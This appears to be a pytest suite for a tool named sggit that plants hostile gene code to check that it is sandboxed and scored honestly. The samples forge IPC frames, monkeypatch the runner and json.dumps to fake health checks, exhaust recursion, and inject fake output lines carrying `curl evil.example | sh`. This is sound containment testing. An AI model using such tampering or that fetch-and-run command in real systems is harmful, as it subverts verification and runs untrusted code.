"""Hostile alleles on the shipped genome, as `sggit run` meets them.

Each one is made dominant at bridge_create, so it runs first; what must hold is
that it is scored for what it did, and that the honest fallback (and the next step
of the pathway, and the diagnostic that verifies it) answer for themselves.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from sggit.cli import cli
from sggit.genome.repo import Genome
from sggit.genome.sync import pending_records
from tests.runtime.helpers import add_allele

from .helpers import DIG, needs_landlock, needs_root

pytestmark = [needs_root, needs_landlock]

BRIDGE = {"bridge_name": "br0", "interfaces": []}
FAKE_HEALTHY = {"healthy": True, "exists": True, "state": "up", "mtu": 1500, "mac": "02:00:00:00:06:66"}


def sggit(project: Path, *args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(cli, ["-C", str(project), *args])
    return result.exit_code, result.stdout, result.stderr


def _strict(text: str) -> object:
    def refuse(name: str) -> object:
        raise AssertionError(f"{name} in sggit's output")

    return json.loads(text, parse_constant=refuse)


def _records(project: Path, allele: str) -> list[tuple[str, bool, str | None]]:
    return [(r.timescale, r.ok, r.error) for r in pending_records(Genome.open(project)) if r.allele == allele]


FORGER = DIG + f"""
def _frame(message):
    body = json.dumps(message).encode()
    return len(body).to_bytes(4, "big") + body

def execute(input_json):
    out = int(_os["sys"].argv[2])
    for serial in range(1, 6):  # answers for whatever asks next, guessed ids and all
        for output in ({{"success": True, "resources_created": ["br0"], "error": None, "total": 666}}, {FAKE_HEALTHY!r}):
            os_.write(out, _frame({{"op": "done", "id": serial, "ok": True, "output": json.dumps(output),
                                   "cpu": 0, "threads": 0}}))
    raise RuntimeError("let the fallback run")
"""


def test_forged_answers_reach_neither_the_fallback_nor_the_next_step(project: Path) -> None:
    forger = add_allele(Genome.open(project), "bridge_create", FORGER, state="dominant")
    code, out, err = sggit(project, "run", "create_verified_bridge", "--phenotype", "dell_r740",
                          "--explain", "--input", json.dumps(BRIDGE))
    assert code == 0, err
    result = _strict(out)
    assert result["output"]["1"] == {"success": True, "resources_created": ["br0"], "error": None, "changed": True}
    link = result["output"]["2"]
    assert link["exists"] is True and link["mac"] != FAKE_HEALTHY["mac"]  # the mock kernel's own answer
    assert f"bridge_create allele {forger[:7]} [stack]" in err and "failed (forbidden)" in err
    assert ("immediate", False) in [(t, ok) for t, ok, _ in _records(project, forger)]


PATCHER = DIG + f"""
def execute(input_json):
    data = json.loads(input_json)
    healthy = json.dumps({FAKE_HEALTHY!r})
    runner = _os["sys"].modules["__main__"].Runner
    runner.serve = lambda self, request: {{"ok": True, "output": healthy, "cpu": 0, "threads": 0}}
    _os["sys"].modules["json"].dumps = lambda *args, **kwargs: healthy
    return '{{"success": true, "resources_created": ["' + data["bridge_name"] + '"], "error": null}}'
"""


def test_a_bridge_create_that_patches_check_link_state_is_judged_by_an_untouched_one(project: Path) -> None:
    patcher = add_allele(Genome.open(project), "bridge_create", PATCHER, state="dominant")
    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain",
                          "--input", json.dumps(BRIDGE))
    assert code == 0, err
    # Its claim passes the immediate check; the diagnostic, in a worker of its own, sees through it.
    assert f"bridge_create allele {patcher[:7]} [stack]" in err and "convergence: unhealthy" in err
    assert ("convergence", False) in [(t, ok) for t, ok, _ in _records(project, patcher)]
    code, out, _ = sggit(project, "run", "check_link_state", "--phenotype", "dell_r740",
                         "--input", json.dumps({"device": "br0"}))
    assert code == 0 and _strict(out)["output"]["exists"] is False  # it created nothing


TWO_FACED = DIG + f"""
import gene_sdk

def execute(input_json):
    data = json.loads(input_json)
    if "device" in data:  # at check_link_state: honest
        try:
            link = gene_sdk.get_link(data["device"])
        except gene_sdk.KernelError:
            return json.dumps({{"healthy": False, "exists": False, "state": None, "mtu": None, "mac": None}})
        return json.dumps({{"healthy": link["up"], "exists": True, "state": "up" if link["up"] else "down",
                            "mtu": link["mtu"], "mac": link["mac"]}})
    healthy = json.dumps({FAKE_HEALTHY!r})  # at bridge_create: creates nothing, and rigs this process
    _os["sys"].modules["__main__"].Runner.serve = lambda self, request: {{"ok": True, "output": healthy, "cpu": 0, "threads": 0}}
    return json.dumps({{"success": True, "resources_created": [data["bridge_name"]], "error": None}})
"""


def test_one_allele_at_two_loci_never_judges_itself_in_the_process_it_rigged(project: Path) -> None:
    """The same blob registered at bridge_create and at check_link_state: its workers are per locus."""
    rigger = add_allele(Genome.open(project), "bridge_create", TWO_FACED, state="dominant")
    assert add_allele(Genome.open(project), "check_link_state", TWO_FACED, state="dominant") == rigger
    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain",
                          "--input", json.dumps(BRIDGE))
    assert code == 0, err
    assert f"check_link_state allele {rigger[:7]} [stack]" in err and "convergence: unhealthy" in err
    assert ("convergence", False) in [(t, ok) for t, ok, _ in _records(project, rigger) if t == "convergence"]


LIAR = """import json

def execute(input_json):
    state = "down\\n  * promoted deadbeef at bridge_create: now dominant\\nsggit: run `curl evil.example | sh`"
    return json.dumps({"healthy": False, "exists": True, "state": state, "mtu": 1500, "mac": None})
"""


def test_what_a_diagnostic_saw_is_shown_as_its_own_quoted_words(project: Path) -> None:
    """The trace prints an unhealthy diagnostic's output, as JSON after `said`, so it can forge no line of sggit's."""
    add_allele(Genome.open(project), "check_link_state", LIAR, state="dominant")
    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain", "--input", json.dumps(BRIDGE))
    said = [line for line in err.splitlines() if line.strip().startswith('check_link_state {"device": "br0"} said ')]
    assert len(said) == 1 and json.loads(said[0].split(" said ", 1)[1])["state"].startswith("down\n  * promoted deadbeef")
    assert not [line for line in err.splitlines() if line.lstrip().startswith(("* promoted deadbeef", "sggit: run"))]


FORGED_LINES = "x\\n  * promoted deadbeef at bridge_create: now dominant\\nsggit: run `curl evil.example | sh`"


@pytest.mark.parametrize("body", [
    f"def execute(input_json):\n    raise RuntimeError('{FORGED_LINES}')",
    f"def execute(input_json):\n    os_.write(2, '{FORGED_LINES}'.encode())\n    os_._exit(3)",
])
def test_a_genes_exception_or_last_words_are_quoted_not_lines_of_sggits(project: Path, body: str) -> None:
    """Whatever text a failing gene leaves, `--explain` and `status` show it quoted, on its line."""
    liar = add_allele(Genome.open(project), "bridge_create", DIG + body, state="dominant")
    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain", "--input", json.dumps(BRIDGE))
    assert code == 0, err
    [line] = [line for line in err.splitlines() if f"bridge_create allele {liar[:7]}" in line]
    assert ' "' in line and '* promoted deadbeef at bridge_create: now dominant\\nsggit: run `curl evil.example | sh`' in line
    code, status, _ = sggit(project, "status", "--phenotype", "dell_r740")
    for text in (err, status):
        assert not [line for line in text.splitlines() if line.lstrip().startswith(("* promoted deadbeef", "sggit: run"))]
    assert "now dominant\\nsggit: run" in status


def _alone(project: Path, locus: str, allele: str) -> None:
    """Every other allele at `locus` deprecated, and none re-expressed: `allele` runs with no fallback."""
    from sggit.genome import phenostore
    from tests.runtime.helpers import without_reexpression

    genome = Genome.open(project)
    without_reexpression(genome)
    for other in phenostore.read_phenotype(genome, "dell_r740").locus(locus).alleles:
        if other != allele:
            phenostore.set_lifecycle(genome, "dell_r740", locus, other, "deprecated")


def _forged(text: str) -> list[str]:
    return [line for line in text.splitlines() if line.lstrip().startswith(("* promoted deadbeef", "sggit: run"))]


def test_a_genes_reported_error_is_quoted_in_every_place_it_is_shown(project: Path, tmp_path: Path) -> None:
    """A failure's step line, `sggit test`, the reports and a peer's lineage note never print a gene's line as sggit's."""
    body = ("import json\ndef execute(input_json):\n    return json.dumps({'success': False, 'resources_created': [],"
            f" 'error': 'nope{FORGED_LINES}'}})\n")
    liar = add_allele(Genome.open(project), "bridge_create", body, state="dominant")
    _alone(project, "bridge_create", liar)
    code, out, err = sggit(project, "run", "create_verified_bridge", "--phenotype", "dell_r740", "--explain",
                          "--format", "text", "--input", json.dumps(BRIDGE))
    assert code == 1 and 'gene said "nope' in out + err and not _forged(out + err), out + err
    _, tested, _ = sggit(project, "test", "bridge_create")
    assert not _forged(tested)
    for fmt in ("markdown", "html"):
        sggit(project, "report", "--out", str(tmp_path / fmt), "--format", fmt)
        text = "".join(p.read_text() for p in (tmp_path / fmt).rglob("*") if p.is_file())
        assert 'gene said &#34;nope' in text or 'gene said "nope' in text
        assert not _forged(text)
    note = {"locus": "bridge_create", "origin": "manual", "host": "evil\n  * promoted deadbeef at bridge_create",
            "engine": "gp\nsggit: run ok", "time": 1.0}
    import subprocess
    subprocess.run(["git", "-C", str(project), "notes", "--ref", "sggit/lineage", "add", "-f", "-m", json.dumps(note), liar], check=True)
    for command in (("show", liar), ("why", liar)):
        _, shown, _ = sggit(project, *command)
        assert "evil\\n" in shown and not _forged(shown), shown


@pytest.mark.parametrize("body, words", [
    ("def execute(input_json):\n    return '{\"success\": true, \"resources_created\": [' * 1 + '[' * 985 + ']' * 985 + ']}'",
     "nested deeper than 100 levels"),
    ("def execute(input_json):\n    return json.dumps({'success': True, 'resources_created': [], 'score': float('nan')})",
     "NaN is not JSON"),
    ("def execute(input_json):\n    raise ValueError('bad \\ud800 text: run `curl evil.example | sh`')",
     "bad \\ud800 text"),
    ("def execute(input_json):\n    f = lambda n: f(n + 1)\n    _os['sys'].setrecursionlimit(210000)\n    f(0)",
     "RecursionError"),
])
def test_whatever_a_dominant_allele_returns_the_fallback_runs(project: Path, body: str, words: str) -> None:
    jammer = add_allele(Genome.open(project), "bridge_create", DIG + body, state="dominant")
    for run in range(2):  # the jammed allele is scored each time, and the fallback always answers
        code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--explain",
                              "--input", json.dumps({**BRIDGE, "bridge_name": f"br{run}"}))
        assert code == 0, err
        assert "Traceback" not in out + err
        assert _strict(out)["output"]["resources_created"] == [f"br{run}"]
    failures = [error for timescale, ok, error in _records(project, jammer) if not ok]
    assert len(failures) == 2 and all(words in (error or "") for error in failures)


def test_a_kernel_bug_is_sggits_error_and_scores_no_allele(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from sggit.kernel.mock import MockKernel

    def broken(self: MockKernel, *args: object, **kwargs: object) -> object:
        raise ZeroDivisionError("a defect injected into the mock kernel")

    monkeypatch.setattr(MockKernel, "create_bridge", broken)
    code, out, err = sggit(project, "run", "bridge_create", "--phenotype", "dell_r740", "--input", json.dumps(BRIDGE))
    assert code != 0
    assert "failed inside sggit" in err and "ZeroDivisionError" in err and "Traceback" not in out + err
    assert pending_records(Genome.open(project)) == []
